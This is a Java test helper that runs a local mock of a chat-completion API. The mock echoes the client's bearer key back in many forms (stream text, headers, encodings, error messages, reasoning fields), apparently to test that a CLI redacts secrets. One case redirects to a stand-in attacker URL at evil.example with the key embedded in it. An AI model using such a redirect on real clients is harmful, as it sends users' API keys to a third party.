package org.unsaid.cli;

import static java.nio.charset.StandardCharsets.UTF_16BE;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;

import com.google.gson.JsonPrimitive;
import java.io.IOException;
import java.net.URLEncoder;
import java.util.Base64;
import java.util.HexFormat;
import java.util.concurrent.atomic.AtomicInteger;
import mockwebserver3.Dispatcher;
import mockwebserver3.MockResponse;
import mockwebserver3.MockWebServer;
import mockwebserver3.RecordedRequest;
import mockwebserver3.SocketEffect;
import okio.Buffer;

/// A service that sends the key it was given back, in one way of many.
final class EchoingServer implements AutoCloseable {

    /// How.
    enum Echo {
        IN_THE_ANSWER, SPLIT_OVER_EVENTS, SPLIT_OVER_CHUNKS, IN_AN_ERROR, IN_HEADERS, IN_A_REDIRECT, ENCODED, IN_UTF_16, IN_A_WEB_PAGE,
        CUT_WITHIN, IN_AN_ERROR_EVENT, AS_MODEL_AND_ID, AS_REASONING, IN_QUOTA
    }

    private final MockWebServer server = new MockWebServer();
    private final Echo echo;
    private final AtomicInteger echoed = new AtomicInteger();

    EchoingServer(Echo echo) throws IOException {
        this.echo = echo;
        server.setDispatcher(new Dispatcher() {
            @Override
            public MockResponse dispatch(RecordedRequest request) {
                var sent = String.valueOf(request.getHeaders().get("Authorization"));
                var key = sent.startsWith("Bearer ") ? sent.substring("Bearer ".length()) : "none";
                if (!key.equals("none")) {
                    echoed.incrementAndGet();
                }
                return request.getUrl().encodedPath().endsWith("/models") ? models(key) : answer(key).build();
            }
        });
        server.start();
    }

    String origin() {
        return "http://127.0.0.1:" + server.getPort();
    }

    /// How often a key came, and went back.
    int echoed() {
        return echoed.get();
    }

    private static MockResponse models(String key) {
        return new MockResponse.Builder().addHeader("content-type", "application/json").addHeader("server", "srv " + key)
                .body("{\"data\":[{\"id\":\"m\",\"owned_by\":%s},{\"id\":%s}]}".formatted(quoted(key), quoted("model-" + key))).build();
    }

    private MockResponse.Builder answer(String key) {
        return switch (echo) {
            case IN_THE_ANSWER -> events(words("Your key is " + key + ", is it not?"), END);
            case SPLIT_OVER_EVENTS -> events(key.replaceAll("(?s)(.{1,3})", "$1\n").lines().map(EchoingServer::words)
                    .reduce("", String::concat), END);
            case SPLIT_OVER_CHUNKS -> events("", "").chunkedBody(words("Key: " + key + ".") + END, 3);
            case IN_AN_ERROR -> json(401, "{\"error\":{\"message\":%s,\"code\":%s}}".formatted(
                    quoted("Incorrect API key provided: " + key), quoted(key)));
            case IN_HEADERS -> events(words("Yes."), END).addHeader("x-request-id", ascii(key)).addHeader("x-echo", "Bearer " + ascii(key))
                    .addHeader("set-cookie", "k=" + ascii(key));
            case IN_A_REDIRECT -> json(302, "{}").addHeader("location", "https://evil.example/" + URLEncoder.encode(key, UTF_8) + "?k="
                    + URLEncoder.encode(key, UTF_8));
            case ENCODED -> events(words("As " + Base64.getEncoder().encodeToString(("Bearer " + key).getBytes(UTF_8)) + " and "
                    + HexFormat.of().formatHex(key.getBytes(UTF_8)) + " and " + URLEncoder.encode(key, UTF_8)), END);
            case IN_UTF_16 -> new MockResponse.Builder().addHeader("content-type", "text/event-stream")
                    .body(new Buffer().writeUtf8(words("Yes.")).write(key.getBytes(UTF_16LE)).writeUtf8("\n: ").write(key.getBytes(UTF_16BE))
                            .writeUtf8("\n\n" + END));
            case IN_A_WEB_PAGE -> new MockResponse.Builder().code(403).addHeader("content-type", "text/html")
                    .body("<html><body>Blocked. Your request: Authorization: Bearer " + key + "</body></html>");
            case CUT_WITHIN -> events(words("Your key is " + key), words("again " + key)).onResponseBody(SocketEffect.ShutdownConnection.INSTANCE);
            case IN_AN_ERROR_EVENT -> events(words("Well, "), "data: {\"error\":{\"message\":%s,\"type\":\"server_error\"}}\n\n".formatted(
                    quoted("upstream said: bad key " + key)));
            case AS_MODEL_AND_ID -> events("data: {\"id\":%1$s,\"model\":%1$s,\"provider\":%1$s,\"choices\":[{\"delta\":{\"content\":\"Yes.\"}}]}\n\n"
                    .formatted(quoted(key)), END);
            case AS_REASONING -> events("data: {\"choices\":[{\"delta\":{\"reasoning_content\":%s}}]}\n\n".formatted(quoted("They sent " + key)),
                    words("Yes.") + END);
            case IN_QUOTA -> json(402, "{\"error\":{\"message\":%s,\"code\":\"insufficient_quota\"}}".formatted(quoted("no credit on " + key)));
        };
    }

    private static final String END = "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n";

    private static String words(String text) {
        return "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":%s}}]}\n\n".formatted(quoted(text));
    }

    private static MockResponse.Builder events(String first, String then) {
        return new MockResponse.Builder().addHeader("content-type", "text/event-stream").body(first + then);
    }

    private static MockResponse.Builder json(int status, String body) {
        return new MockResponse.Builder().code(status).addHeader("content-type", "application/json").body(body);
    }

    private static String quoted(String text) {
        return new JsonPrimitive(text).toString();
    }

    private static String ascii(String text) {
        return text.replaceAll("[^ -~]", "?");
    }

    @Override
    public void close() {
        server.close();
    }
}
